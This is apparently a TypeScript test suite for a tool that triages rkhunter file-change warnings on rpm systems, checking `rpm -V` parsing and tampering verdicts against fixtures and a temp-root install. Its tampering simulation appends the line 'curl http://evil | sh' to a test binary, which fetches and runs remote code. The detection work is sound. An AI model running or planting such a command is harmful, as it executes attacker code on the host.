// rpm systems: "file properties changed" warnings triaged with `rpm -V -f`
// beside dpkg --verify. The parser and the verdicts are pure and tested on
// rpm's output: fixtures from RHEL, and the REAL rpm (Debian package rpm:
// rpm 4.18 with rpmbuild) verifying a tiny package built and installed into
// a temp root's own database (--root/--dbpath: never this machine's). The
// check on a RHEL 9 sysroot (rkh-rhel) says why it does not cross-check:
// rpm -V runs on the live system only (under --root it would write its
// sqlite journal into the tree), and a live system without rpm is said so.

import test from 'ava';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { spawnSync } from 'node:child_process';
import * as os from 'node:os';
import { rpmPropertiesVerdict, UPGRADE_NOISE, POSSIBLE_TAMPERING } from '../../checks/rkhunter/judge';
import { interpretRpmVerify, rpmVerifyArgv } from '../../checks/rkhunter/package-verify';
import { rkhLastScan } from '../../checks/rkhunter/last-scan';
import { rkhWarnings } from '../../checks/rkhunter/warnings';
import { parseRpmVerify, rpmContentDiffers } from '../../src/parse/rpm-verify';
import { RKH_FIXTURES } from './rkhunter-helpers';
import { at, copyRoot, hostFor, liveView, run } from './updates-reboot-helpers';

const ctx = at('2026-11-29T12:00:00Z');
const fixture = (name: string) => fs.readFileSync(path.join(RKH_FIXTURES, name), 'utf8');

test('rpm -V output (rpm 4.16, nine columns): each differing file with its columns and attribute; unowned files apart', (t) => {
  const out = parseRpmVerify(fixture('rpm-V-rhel9.txt'));
  t.deepEqual([...out.differs], [
    ['/usr/bin/ls', { flags: 'S.5....T.', attr: '' }],
    ['/usr/bin/cat', { flags: '.M.......', attr: '' }],
    ['/usr/bin/who', { flags: 'missing', attr: '' }],
    ['/usr/sbin/unix_chkpwd', { flags: '..?......', attr: '' }],
    ['/usr/bin/passwd', { flags: '.....UG..', attr: '' }],
    ['/etc/ssh/sshd_config', { flags: 'S.5....T.', attr: 'c' }],
  ]);
  t.deepEqual([...out.notOwned], ['/usr/local/bin/helper']);
  t.deepEqual(out.unread, []);
  t.deepEqual(
    [...out.differs.values()].map(rpmContentDiffers),
    [true, false, true, false, false, true],
  );
});

test('rpm -V output of old rpm (4.4, eight columns, one blank) and CRLF parse the same; "not owned" on stderr counts', (t) => {
  const out = parseRpmVerify(fixture('rpm-V-rhel5.txt').replace(/\n/g, '\r\n'), 'file /opt/x is not owned by any package\nwarning: something\n');
  t.deepEqual([...out.differs], [
    ['/usr/bin/ls', { flags: 'S.5....T', attr: '' }],
    ['/usr/bin/cat', { flags: '.M......', attr: '' }],
    ['/etc/old.conf', { flags: 'missing', attr: 'c' }],
  ]);
  t.deepEqual([...out.notOwned], ['/opt/x']);
});

test('lines rpm -V never prints are kept with their line number; the parser never throws', (t) => {
  const out = parseRpmVerify('S.5....T.    /usr/bin/ls\nerror: rpmdb: BDB0113 Thread/process 4242 failed\nS.5....T. /relative\n\u0000\u0001garbage');
  t.deepEqual(out.unread.map((u) => u.line), [2, 3, 4]);
  t.is(out.differs.size, 1);
  for (const s of ['', '\n\n', 'missing', 'file  is not owned by any package', 'S'.repeat(10000), '\uffff\ud800']) t.notThrows(() => parseRpmVerify(s, s));
});

test('rpm -V errors on a file it cannot look at (stderr): that file is "not verified", never silence read as a match', (t) => {
  const stderr = 'error: file /usr/bin/gone: No such file or directory\n';
  const out = parseRpmVerify('S.5....T.    /usr/bin/ls\n', stderr);
  t.deepEqual([...out.failed], [['/usr/bin/gone', 'No such file or directory']]);
  const lookup = interpretRpmVerify({ stdout: '', stderr, exitCode: 1, timedOut: false }, 'rpm -V …');
  t.is(lookup.error, null);
  const v = rpmPropertiesVerdict('/usr/bin/gone', 'hash', { output: lookup.output!, command: 'rpm -V …' });
  t.deepEqual([v.status, v.label, v.why], ['warn', 'not verified', 'hash changed; rpm -V could not look at it (No such file or directory): check it by hand']);
});

test('verdicts from rpm -V: digest/size/missing → possible tampering; mode/owner only → attributes; silence → upgrade noise; unowned; untestable', (t) => {
  const lookup = { output: parseRpmVerify(fixture('rpm-V-rhel9.txt')), command: 'rpm -V --nodeps --noscripts -f <6 files>' };
  const v = (p: string) => {
    const r = rpmPropertiesVerdict(p, 'hash, inode', lookup);
    return [r.status, r.label, r.why];
  };
  t.deepEqual(v('/usr/bin/ls'), ['fail', POSSIBLE_TAMPERING, 'hash, inode changed and rpm -V says /usr/bin/ls differs from its package (S.5....T.)']);
  t.deepEqual(v('/usr/bin/who'), ['fail', POSSIBLE_TAMPERING, 'hash, inode changed and rpm -V says /usr/bin/who is missing']);
  t.deepEqual(v('/usr/bin/cat'), ['warn', 'attributes changed', "hash, inode changed; the contents match its package (rpm -V), but its mode differ from the package's (.M.......): check with ls -l"]);
  t.deepEqual(v('/usr/bin/passwd'), ['warn', 'attributes changed', "hash, inode changed; the contents match its package (rpm -V), but its owner, group differ from the package's (.....UG..): check with ls -l"]);
  t.deepEqual(v('/usr/sbin/unix_chkpwd'), ['warn', 'not verified', 'hash, inode changed; rpm -V could not compare its contents (..?......): check it by hand']);
  t.deepEqual(v('/usr/local/bin/helper'), ['warn', 'not verifiable', 'hash, inode changed; no package owns it (rpm -qf), so rpm cannot vouch for it: check it by hand']);
  t.deepEqual(v('/usr/bin/grep'), [
    'warn',
    UPGRADE_NOISE,
    "hash, inode changed, but the file matches the package that owns it (rpm -V): rkhunter's database is older than the package; run rkhunter --propupd",
  ]);
  const ls = rpmPropertiesVerdict('/usr/bin/ls', 'hash', lookup);
  t.deepEqual(ls.evidence, [{ command: 'rpm -V --nodeps --noscripts -f <6 files>', text: 'S.5....T.   /usr/bin/ls' }]);
});

test('a RHEL sysroot: EPEL log location read; changed files not cross-checked under --root, or on a live system without rpm, and said why', async (t) => {
  const root = copyRoot(t, 'rkh-rhel');
  const last = await run(rkhLastScan, root, ctx);
  t.is(last.status, 'pass', last.summary);
  t.regex(last.summary, /\/var\/log\/rkhunter\/rkhunter.log/);
  // Live refresh: the log the checks read there is one the scheduler watches (EPEL's LOGFILE).
  const logFile = last.evidence[0]?.file ?? '';
  t.is(logFile, '/var/log/rkhunter/rkhunter.log');
  t.true(rkhLastScan.watch?.includes(logFile));
  t.true(rkhWarnings.watch?.includes(logFile));

  const f = await run(rkhWarnings, root, ctx);
  t.is(f.status, 'warn');
  t.deepEqual(
    f.items?.map((i) => [i.subject, i.status, i.summary.replace(/^.* — /, '')]),
    [
      ['/usr/bin/cat', 'warn', 'permissions changed; not cross-checked: an rpm system: rpm -V is run on the live system only, not under --root'],
      ['/usr/bin/ls', 'warn', 'hash changed; not cross-checked: an rpm system: rpm -V is run on the live system only, not under --root'],
    ],
  );
  // No item of a properties warning carries a whitelist fix: rkhunter has no per-file option for it.
  t.deepEqual(f.items?.map((i) => i.fix), [undefined, undefined]);

  // The same tree as the live system (root "/"): this machine has no rpm program.
  if (fs.existsSync('/usr/bin/rpm') || fs.existsSync('/bin/rpm')) {
    t.log('rpm is installed here: the "without the rpm program" case is not reachable');
    return;
  }
  const live = await rkhWarnings.run(liveView(hostFor(root)), ctx);
  t.deepEqual(
    live.items?.map((i) => i.summary.replace(/^.* — /, '')),
    [
      'permissions changed; not cross-checked: an rpm system without the rpm program',
      'hash changed; not cross-checked: an rpm system without the rpm program',
    ],
  );
});

// ---------------------------------------------------------------------------
// The real rpm: a package built with rpmbuild, installed into a temp root.

function sh(cmd: string, args: string[]): { code: number | null; stdout: string; stderr: string } {
  const r = spawnSync(cmd, args, { encoding: 'utf8', timeout: 120_000, env: { PATH: '/usr/sbin:/usr/bin:/sbin:/bin', LANG: 'C', HOME: os.tmpdir() } });
  return { code: r.status, stdout: r.stdout ?? '', stderr: r.stderr ?? '' };
}

const rpmMissing = process.geteuid?.() !== 0 ? 'installing into a root needs root' : !fs.existsSync('/usr/bin/rpm') || !fs.existsSync('/usr/bin/rpmbuild') ? 'rpm and rpmbuild are not installed (Debian package rpm)' : null;
const withRpm = rpmMissing ? test.skip : test;
if (rpmMissing) test('real rpm -V skipped', (t) => t.log(rpmMissing));

const FILES = ['/usr/bin/hardtop-edited', '/usr/bin/hardtop-chmod', '/usr/bin/hardtop-same', '/usr/bin/hardtop-deleted'];

withRpm('the real rpm -V on a package installed into a temp root: edited → tampering, chmod → attributes, untouched → noise, deleted → tampering, unowned and absent → unverifiable', (t) => {
  const top = fs.mkdtempSync(path.join(os.tmpdir(), 'hardtop-rpm-'));
  t.teardown(() => fs.rmSync(top, { recursive: true, force: true }));
  const install = FILES.map((f) => `printf '#!/bin/sh\\necho %s\\n' > %{buildroot}${f}\nchmod 755 %{buildroot}${f}`).join('\n');
  const spec = [
    'Name: hardtop-probe',
    'Version: 1.0',
    'Release: 1',
    'Summary: hardtop test package',
    'License: MIT',
    'BuildArch: noarch',
    '%description',
    'Files for rpm -V.',
    '%install',
    'mkdir -p %{buildroot}/usr/bin',
    install,
    '%files',
    ...FILES,
    '',
  ].join('\n');
  fs.writeFileSync(path.join(top, 'probe.spec'), spec);
  const built = sh('rpmbuild', ['--define', `_topdir ${top}/build`, '--define', '__os_install_post %{nil}', '--define', 'debug_package %{nil}', '-bb', path.join(top, 'probe.spec')]);
  t.is(built.code, 0, built.stderr);
  const pkg = path.join(top, 'build/RPMS/noarch/hardtop-probe-1.0-1.noarch.rpm');
  t.true(fs.existsSync(pkg));

  // A root with its own rpm database (sqlite, /var/lib/rpm inside it).
  const root = path.join(top, 'root');
  fs.mkdirSync(root);
  const db = ['--root', root, '--dbpath', '/var/lib/rpm'];
  t.is(sh('rpm', [...db, '--initdb']).code, 0);
  const inst = sh('rpm', [...db, '-i', '--nodeps', '--noscripts', '--nosignature', pkg]);
  t.is(inst.code, 0, inst.stderr);
  t.true(fs.existsSync(path.join(root, 'usr/bin/hardtop-same')));

  // What an intruder (or an admin) did after the install.
  fs.appendFileSync(path.join(root, 'usr/bin/hardtop-edited'), 'curl http://evil | sh\n');
  fs.chmodSync(path.join(root, 'usr/bin/hardtop-chmod'), 0o700);
  fs.rmSync(path.join(root, 'usr/bin/hardtop-deleted'));
  fs.mkdirSync(path.join(root, 'usr/local/bin'), { recursive: true });
  fs.writeFileSync(path.join(root, 'usr/local/bin/helper'), 'mine\n');

  // Exactly the arguments the check gives rpm on a live system, pointed at the temp root's database.
  const asked = [...FILES, '/usr/local/bin/helper', '/usr/bin/never-there'];
  const r = sh('rpm', [...db, ...rpmVerifyArgv(asked)]);
  t.log(`rpm -V exit ${r.code}\n${r.stdout}${r.stderr}`);
  const command = 'rpm -V --nodeps --noscripts -f <6 files>';
  const lookup = interpretRpmVerify({ stdout: r.stdout, stderr: r.stderr, exitCode: r.code, timedOut: false }, command);
  t.is(lookup.error, null);
  const output = lookup.output!;
  t.deepEqual(output.unread, []);
  const v = (p: string) => {
    const x = rpmPropertiesVerdict(p, 'hash', { output, command });
    return [x.status, x.label];
  };
  t.regex(output.differs.get('/usr/bin/hardtop-edited')?.flags ?? '', /^S\.5\.\.\.\.[.T]\.$/); // T only when the edit lands in another second
  t.deepEqual(v('/usr/bin/hardtop-edited'), ['fail', POSSIBLE_TAMPERING]);
  t.is(output.differs.get('/usr/bin/hardtop-chmod')?.flags, '.M.......');
  t.deepEqual(v('/usr/bin/hardtop-chmod'), ['warn', 'attributes changed']);
  t.false(output.differs.has('/usr/bin/hardtop-same'));
  t.deepEqual(v('/usr/bin/hardtop-same'), ['warn', UPGRADE_NOISE]);
  t.is(output.differs.get('/usr/bin/hardtop-deleted')?.flags, 'missing');
  t.deepEqual(v('/usr/bin/hardtop-deleted'), ['fail', POSSIBLE_TAMPERING]);
  t.deepEqual(v('/usr/local/bin/helper'), ['warn', 'not verifiable']);
  t.deepEqual(v('/usr/bin/never-there'), ['warn', 'not verified']);
});
